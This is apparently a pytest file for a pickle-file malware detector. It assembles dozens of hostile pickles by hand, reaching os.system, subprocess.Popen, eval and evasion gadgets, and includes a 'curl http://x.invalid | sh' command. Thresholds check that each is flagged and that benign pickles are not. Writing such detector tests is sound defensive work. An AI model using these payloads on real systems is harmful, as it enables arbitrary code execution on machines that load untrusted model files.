"""Each trick as a hand-assembled pickle, with the severity it must reach or stay below."""

from __future__ import annotations

import pytest
from pickle_opcodes import EVIL, PROTO, SYSTEM, blob, called, named, pickled, text

from mingjian.detect.model.pickle_judge import judge
from mingjian.detect.model.pickle_walk import PickleWalker

FLAGGED = 6.0
RUN = text("echo marker") + b"\x85R."
OS = called(named("importlib", "import_module"), text("os"))
NUMPY = named("numpy", "core")
GETTER = called(named("operator", "attrgetter"), text("system"))
INSTANCE = named("argparse", "Namespace") + b")\x81"


def severity(data: bytes) -> float:
    reasons = judge(PickleWalker(data).walk())
    return reasons[0].severity if reasons else 0.0


HARMFUL = {
    "reduce": EVIL,
    "protocol 0": b"cos\nsystem\n(S'id'\ntR.",
    "inst": b"(S'id'\nios\nsystem\n.",
    "obj": b"(cos\nsystem\nS'id'\no.",
    "newobj": pickled(named("subprocess", "Popen") + b"](" + text("id") + b"e\x85\x81"),
    "newobj_ex": pickled(named("subprocess", "Popen") + b")}\x92"),
    "posix": pickled(called(named("posix", "system"), text("id"))),
    "python 2": b"c__builtin__\neval\n(S'1'\ntR.",
    "importlib": pickled(OS),
    "attrgetter": pickled(called(called(GETTER, OS), text("id"))),
    "attrgetter on a package": pickled(called(called(GETTER, NUMPY), text("id"))),
    "methodcaller": pickled(
        called(called(named("operator", "methodcaller"), text("system"), text("id")), NUMPY)
    ),
    "functools.partial of os.system": pickled(
        called(called(named("functools", "partial"), named("os", "system"), text("id")))
    ),
    "functools.reduce": pickled(called(named("functools", "reduce"), named("builtins", "max"))),
    "operator.call": pickled(called(named("operator", "call"), named("builtins", "dict"))),
    "pip": pickled(called(named("pip", "main"), b"](" + text("install") + b"e")),
    "timeit": pickled(called(named("timeit", "timeit"), text("1"))),
    "unlisted function of the standard library": pickled(
        called(named("shlex", "split"), text("a"))
    ),
    "unlisted function of a package": pickled(called(named("sklearn.utils", "shuffle"), b"N")),
    "file function of numpy": pickled(called(named("numpy", "fromfile"), text("/etc/hosts"))),
    "memmap made": pickled(named("numpy", "memmap") + text("x") + b"\x85\x81"),
    "dotted through os": pickled(called(named("random", "_os.system"), text("id"))),
    "dotted through builtins": pickled(called(named("numpy", "__builtins__.get"), text("eval"))),
    "dunder": pickled(named("collections", "OrderedDict.__class__.__subclasses__")),
    "method of a plain class": pickled(called(named("pathlib", "Path.write_text"), text("x"))),
    "getattr with a dunder": pickled(
        called(named("builtins", "getattr"), NUMPY, text("__builtins__"))
    ),
    "getattr chain called": pickled(
        called(
            called(
                named("builtins", "getattr"),
                called(named("builtins", "getattr"), NUMPY, text("os")),
                text("system"),
            ),
            text("id"),
        )
    ),
    "name from a call": pickled(
        called(text("os") + called(named("builtins", "str"), text("system")) + b"\x93")
    ),
    "call of a computed thing": pickled(called(called(named("collections", "Counter")))),
    "ufunc gadget": pickled(
        called(named("numpy.core", "_ufunc_reconstruct"), text("os"), text("system"))
    ),
    "from_type gadget": pickled(
        called(named("torch._tensor", "_rebuild_from_type_v2"), named("shlex", "split"), b"N)N")
    ),
    "codec": pickled(called(named("_codecs", "encode"), text("cbf"), text("rot13"))),
    "BUILD on a module": pickled(NUMPY + b"N}" + text("a") + text("b") + b"s\x86b"),
    "BUILD on a function": pickled(named("numpy", "prod") + b"N}" + text("a") + b"Ns\x86b"),
    "BUILD __setstate__": pickled(
        INSTANCE + b"}" + text("__setstate__") + named("builtins", "dict") + b"sb" + b"Nb"
    ),
    "source in a SciPy distribution": pickled(
        named("scipy.stats._continuous_distns", "norm_gen")
        + b")\x81}"
        + text("_parse_arg_template")
        + text("\ndef _parse_args(self, x=print(1)):\n    return (), 0\n")
        + b"sb"
    ),
    "string that SymPy evaluates": pickled(
        named("sympy.functions.elementary.trigonometric", "sin")
        + text("__import__('os').getcwd()")
        + b"\x85\x81"
    ),
    "class made at load": pickled(
        called(named("builtins", "type"), text("C"), b")", b"}" + text("x") + b"Ns")
    ),
    "metaclass called": pickled(called(named("abc", "ABCMeta"), text("C"), b")", b"}")),
    "SETITEM on a global": pickled(named("sys", "modules") + text("a") + b"Ns"),
    "extension code called": pickled(b"\x82\x01)R"),
    "string operands": b"S'os'\nS'system'\n\x93" + RUN,
    "escaped names": b"S'\\x6f\\x73'\nV\\u0073ystem\n\x93" + RUN,
    "memo overwritten": b"\x80\x04Vtorch\np0\n0Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93" + RUN,
    "memo swapped": PROTO + text("system") + b"\x940" + text("os") + b"\x94h\x00\x93" + RUN,
    "dup": PROTO + text("timeit") + b"2\x93" + RUN,
    "then memo error": PROTO + SYSTEM + b"h\x63.",
    "then underflow": PROTO + SYSTEM + b"0000.",
    "then unknown opcode": PROTO + SYSTEM + b"\xff",
    "then truncated": PROTO + SYSTEM + b"X\xff\xff\xff\x7f",
    "frame lie": PROTO + b"\x95\xff\xff\xff\x00\x00\x00\x00\x00" + SYSTEM + b".",
    "second pickle": b"\x80\x04N." + EVIL,
    "name not utf-8 but reached": PROTO + b"cos\nsys\xfftem\n" + SYSTEM + b".",
    "unknown package with a command": pickled(
        called(named("evilpkg.tools", "helper"), text("curl http://x.invalid | sh"))
    ),
    "unknown package with a verb": pickled(called(named("evilpkg", "popen"), b"N")),
}


@pytest.mark.parametrize("trick", HARMFUL)
def test_harmful(trick: str) -> None:
    assert severity(HARMFUL[trick]) >= FLAGGED


TEMPLATE = b"""
def _parse_args(self, a, b, loc=0, scale=1):
    return (a, b), loc, scale

def _parse_args_rvs(self, a, b, loc=0, scale=1, size=None):
    return self._argcheck_rvs(a, b, loc, scale, size=size)

def _parse_args_stats(self, a, b, loc=0, scale=1, moments='mv'):
    return (a, b), loc, scale, moments
"""
HARMLESS = {
    "listed class": (pickled(called(named("collections", "OrderedDict"))), 0.0),
    "array": (
        pickled(
            called(
                named("numpy._core.multiarray", "_reconstruct"),
                named("numpy", "ndarray"),
                b"K\x00\x85",
                blob(b"b"),
            )
        ),
        0.0,
    ),
    "estimator": (pickled(named("sklearn.svm._classes", "SVC") + b")\x81}b"), 0.0),
    "old reconstructor": (
        b"ccopy_reg\n_reconstructor\n(cmypackage\nThing\nc__builtin__\nobject\nNtR.",
        1.0,
    ),
    "own class": (pickled(named("mypackage", "Thing") + b")\x81}b"), 1.0),
    "own class called": (pickled(called(named("mypackage", "Colour"), b"K\x01")), 2.0),
    "own factory": (pickled(called(named("mypackage", "rebuild"), b"K\x01")), 4.0),
    "bound method": (
        pickled(
            called(
                named("builtins", "getattr"), named("mypackage", "Thing") + b")\x81", text("fit")
            )
        ),
        2.0,
    ),
    "method of str": (
        pickled(called(named("builtins", "getattr"), named("builtins", "str"), text("lower"))),
        2.0,
    ),
    "itemgetter": (pickled(called(named("operator", "itemgetter"), text("a"))), 0.0),
    "attrgetter": (pickled(called(named("operator", "attrgetter"), text("label"))), 3.0),
    "partial": (pickled(called(named("functools", "partial"), named("builtins", "dict"))), 0.0),
    "latin-1 bytes": (
        pickled(called(named("_codecs", "encode"), text("abc"), text("latin1"))),
        0.0,
    ),
    "ufunc": (
        pickled(called(named("numpy.core", "_ufunc_reconstruct"), text("numpy"), text("log1p"))),
        0.0,
    ),
    "torch storage": (
        pickled(text("storage") + named("torch", "FloatStorage") + text("0") + b"\x87Q"),
        0.0,
    ),
    "class through a persistent id": (
        pickled(text("module") + named("mypackage", "Net") + b"\x86Q)\x81}b"),
        1.0,
    ),
    "zone made by a class method": (
        pickled(
            called(
                called(
                    named("builtins", "getattr"), named("zoneinfo", "ZoneInfo"), text("_unpickle")
                ),
                text("Asia/Shanghai"),
                b"K\x01",
            )
        ),
        0.0,
    ),
    "type of None": (pickled(called(named("builtins", "type"), b"N")), 0.0),
    "SciPy's own source": (
        pickled(
            named("scipy.stats._continuous_distns", "norm_gen")
            + b")\x81}"
            + text("_parse_arg_template")
            + b"X"
            + len(TEMPLATE).to_bytes(4, "little")
            + TEMPLATE
            + b"sb"
        ),
        1.0,
    ),
    "booster rebuilt": (pickled(named("xgboost.core", "Booster") + b")\x81}b"), 0.0),
    "booster called": (pickled(called(named("xgboost.core", "Booster"), b"N")), 4.0),
    "a sentence about imports": (pickled(text("import os is a phrase")), 0.0),
}


@pytest.mark.parametrize("case", HARMLESS)
def test_harmless(case: str) -> None:
    data, most = HARMLESS[case]
    assert severity(data) <= most


def test_command_in_sight_is_graver_than_the_call_alone() -> None:
    quiet = severity(pickled(called(named("os", "system"), text("x"))))
    loud = severity(pickled(called(named("os", "system"), text("curl http://x.invalid"))))
    assert quiet < loud == 10.0
